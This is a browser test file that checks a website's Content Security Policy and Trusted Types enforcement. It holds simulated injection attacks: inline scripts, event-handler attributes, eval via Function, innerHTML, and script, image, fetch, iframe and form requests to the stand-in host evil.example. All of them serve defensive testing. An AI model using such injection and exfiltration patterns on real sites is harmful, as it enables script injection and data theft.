import { inject, describe, expect, test } from 'vitest';
import { appStands } from '../helpers/browser-site.ts';
import { pagesOfEveryKind } from '../helpers/every-page.ts';
import { sample } from '../helpers/sample.ts';
import { EVERYTHING, useConfiguredSite, type Visitor } from '../helpers/third-parties.ts';

const site = useConfiguredSite(EVERYTHING);
const samples = pagesOfEveryKind(inject('embeddedSite'))
  // Pages of the other language run the same code.
  .filter(({ locale }) => locale === 'uz')
  .map(({ address, template }) => [address, template] as const);
const EDITORS_PAGES = ['preview', 'slice-simulator'];

/** Waits until the app and all third parties are running. */
const isBusy = async ({ page, own, foreign }: Visitor): Promise<void> => {
  await appStands(page);
  await expect.poll(() => foreign.filter((url) => url.includes('googletagmanager')).length).toBe(2);
  await expect.poll(() => own.some((path) => path.startsWith('/assets/replay-worker.'))).toBe(true);
};

const policyOf = async (address: string): Promise<string> =>
  (await fetch(site.preview + address)).headers.get('content-security-policy') ?? '';

describe('with every third party', () => {
  test.each(
    sample(
      3,
      samples.filter(([, template]) => !EDITORS_PAGES.includes(template)),
    ),
  )('%s violates its policy nowhere', async (address, template) => {
    const visitor = await site.visit({ chance: 0.05 });
    await visitor.open(address);
    await isBusy(visitor);
    // The browser itself reports that a page has the status 404.
    const isMissing = template === 'not-found' || template === 'gone' || template === 'error';
    const own = visitor.complaints.filter((text) => !isMissing || !text.includes('status of 404'));
    expect(own).toEqual([]);
  });

  test.each(samples.filter(([, template]) => EDITORS_PAGES.includes(template)))(
    '%s, which editors alone see, asks none of them for anything',
    async (address) => {
      const visitor = await site.visit({ chance: 0.05 });
      // Without a draft to show, `/preview` leaves for the home page.
      await visitor.open(`${address}?token=x&documentId=y`);
      await appStands(visitor.page);
      await visitor.page.waitForTimeout(1_000);
      expect(visitor.foreign).toEqual([]);
      expect(visitor.own.filter((path) => path.includes('third-parties'))).toEqual([]);
      expect(visitor.complaints).toEqual([]);
    },
  );

  test('every page has the same policy, below 2,000 characters, but for those of the editors', async () => {
    const policies = await Promise.all(samples.map(async ([address, template]) => [template, await policyOf(address)]));
    const usual = policies.filter(([template = '']) => !EDITORS_PAGES.includes(template)).map(([, policy]) => policy);
    expect(usual.length).toBeGreaterThan(20);
    expect(new Set(usual).size).toBe(1);
    expect(usual[0]).toContain("require-trusted-types-for 'script'");
    expect(usual[0]?.length).toBeLessThan(2_000);
    for (const page of EDITORS_PAGES) expect(await policyOf(`/${page}`)).not.toBe(usual[0]);
  });
});

describe('what the policy forbids is stopped, and seen here', () => {
  // Attacks run in a timer, because the policy does not apply to `evaluate` itself.
  const attack = async (run: () => void): Promise<Visitor> => {
    const visitor = await site.visit();
    await visitor.open('/faqs');
    await isBusy(visitor);
    expect(visitor.complaints).toEqual([]);
    await visitor.page.evaluate(run);
    return visitor;
  };
  const isViolated = async ({ complaints }: Visitor, directive: string): Promise<void> =>
    expect.poll(() => complaints.join('\n')).toContain(`violation of ${directive}`);
  const hasRun = async ({ page }: Visitor): Promise<boolean> =>
    page.evaluate(() => Reflect.get(globalThis, 'hasRun') === true);

  test('an inline script', async () => {
    const visitor = await attack(() => {
      setTimeout(() => {
        const script = document.createElement('script');
        script.append('globalThis.hasRun = true');
        document.body.append(script);
      });
    });
    await expect.poll(() => visitor.complaints.join('\n')).toContain("requires 'TrustedScript' assignment");
    expect(await hasRun(visitor)).toBe(false);
  });

  test('an attribute with a handler', async () => {
    const visitor = await attack(() => {
      setTimeout(() => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'globalThis.hasRun = true');
        document.body.append(button);
        button.click();
      });
    });
    await expect.poll(() => visitor.complaints.join('\n')).toContain("requires 'TrustedScript' assignment");
    expect(await hasRun(visitor)).toBe(false);
  });

  test('code out of a text', async () => {
    const visitor = await attack(() => {
      // oxlint-disable-next-line no-implied-eval, typescript/no-implied-eval -- what is tested
      setTimeout(() => Reflect.construct(Function, ['globalThis.hasRun = true'])());
    });
    await isViolated(visitor, 'require-trusted-types-for');
    expect(await hasRun(visitor)).toBe(false);
  });

  test('HTML out of a text', async () => {
    const visitor = await attack(() => {
      setTimeout(() => {
        const paragraph = document.createElement('p');
        paragraph.innerHTML = '<b>matn</b>';
        Reflect.set(globalThis, 'hasRun', true);
      });
    });
    await isViolated(visitor, 'require-trusted-types-for');
    expect(await hasRun(visitor)).toBe(false);
  });

  test('a script of another host', async () => {
    const visitor = await attack(() => {
      setTimeout(() => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/x.js';
        document.body.append(script);
      });
    });
    await isViolated(visitor, 'require-trusted-types-for');
    expect(visitor.foreign.filter((url) => url.includes('evil.example'))).toEqual([]);
  });

  test.each<readonly [string, () => void]>([
    ['img-src', () => void Object.assign(new Image(), { src: 'https://evil.example/x.png' })],
    [
      'connect-src',
      () => {
        fetch('https://evil.example/').catch(() => {});
      },
    ],
    [
      'frame-src',
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
    ],
    ['style-src', () => document.body.append(Object.assign(document.createElement('style'), { textContent: 'p{}' }))],
    [
      'form-action',
      () => {
        const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
        document.body.append(form);
        form.submit();
      },
    ],
  ])('%s', async (directive, run) => {
    const visitor = await attack(run);
    await isViolated(visitor, directive);
    expect(visitor.foreign.filter((url) => url.includes('evil.example'))).toEqual([]);
  });
});
